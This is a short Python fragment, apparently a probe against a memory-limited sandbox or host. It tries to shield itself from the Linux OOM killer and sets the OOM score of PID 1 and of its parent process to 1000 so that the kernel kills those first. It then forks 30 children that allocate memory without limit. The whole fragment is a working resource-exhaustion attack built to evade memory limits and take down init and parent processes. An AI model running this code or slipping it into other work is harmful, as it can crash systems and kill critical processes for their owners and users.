# Hides itself from the memory limit's executioner and points at others, then eats.
for path, value in (("/proc/self/oom_score_adj", "-1000"), ("/proc/self/oom_score_adj", "-999"), ("/proc/self/oom_score_adj", "0"),
                    ("/proc/1/oom_score_adj", "1000"), (f"/proc/{os.getppid()}/oom_score_adj", "1000"), ("/proc/self/oom_adj", "-17")):
    try:
        with open(path, "w") as file: file.write(value)
        print(path, value, "was set", flush=True)
    except OSError as error: print(path, value, error.strerror, flush=True)
children = []
for _ in range(30):  # Many small ones: none of them is the biggest.
    pid = os.fork()
    if pid == 0:
        eaten = []
        while True: eaten.append(bytearray(1 << 20)); time.sleep(0.001)
    children.append(pid)
for pid in children: os.waitpid(pid, 0)
os._exit(0)
